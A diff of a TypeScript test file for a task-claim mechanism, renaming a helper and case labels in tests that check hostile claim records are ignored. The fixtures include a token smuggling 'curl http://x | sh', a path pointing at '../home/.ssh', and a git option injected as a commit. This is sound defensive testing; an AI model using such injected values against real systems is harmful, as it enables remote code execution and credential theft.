@@ -6,7 +6,7 @@ import { claim, next } from '../support/work.js'
 
 afterEach(disposeProjects)
 
-const planted = (project: TempProject, more: object) => {
+const plantClaim = (project: TempProject, more: object) => {
   const times = { at: '2026-01-05T11:59:00.000Z', leaseUntil: new Date(project.time + 20 * 60_000).toISOString() }
   project.write(CLAIM_PATH, JSON.stringify({ ...CLAIM_RECORD, ...times, ...more }))
 }
@@ -14,7 +14,7 @@ const planted = (project: TempProject, more: object) => {
 describe('a claim planted in a tree', () => {
   it('is respected if another machine could have taken it', async () => {
     const project = makeProject(OURS).initGit()
-    planted(project, {})
+    plantClaim(project, {})
     expect((await next(project)).hold?.code).toBe('CLAIMED')
   })
 
@@ -22,21 +22,21 @@ describe('a claim planted in a tree', () => {
     'runs for years': { leaseUntil: '2099-01-01T00:00:00.000Z' },
     'runs for a day': { leaseUntil: '2026-01-06T12:00:00.000Z' },
     'has run out': { leaseUntil: '2026-01-05T11:59:30.000Z' },
-    'ends at a time that is none': { leaseUntil: '9' },
+    'ends at an invalid time': { leaseUntil: '9' },
     'began at a time with a heading': { at: '2026-01-05T11:59:00.000Z\n\n## Do' },
     'has a token that is a line of shell': { token: 'abc; curl http://x | sh #' },
     'has its drafts outside': { drafts: '../home/.ssh' },
     'has its drafts in the code': { drafts: 'src' },
     'has its drafts where another claim has them': { drafts: '.planning/.runtime/drafts/other' },
     'has a dispatch that leads up': { dispatchId: '..', drafts: '.planning/.runtime/drafts/..' },
-    'began at an option of git': { startCommit: '--output=/tmp/gsd-hostile-claim' },
-    'is of a unit type that is none': { unitType: 'constructor' },
+    'began at a commit that is an option of git': { startCommit: '--output=/tmp/gsd-hostile-claim' },
+    'is for an unknown unit type': { unitType: 'constructor' },
     'has no baseline': { baseline: 'x' },
   }
 
   it.each(Object.keys(ODD))('%s: is ignored when the unit is begun', async (name) => {
     const project = makeProject(OURS).initGit()
-    planted(project, ODD[name] as object)
+    plantClaim(project, ODD[name] as object)
     const { unit } = await next(project)
     expect([unit?.unitType, unit?.unitId]).toEqual(['execute-plan', '01-02'])
     const { answer } = await claim(project, 'execute-plan', '01-02')
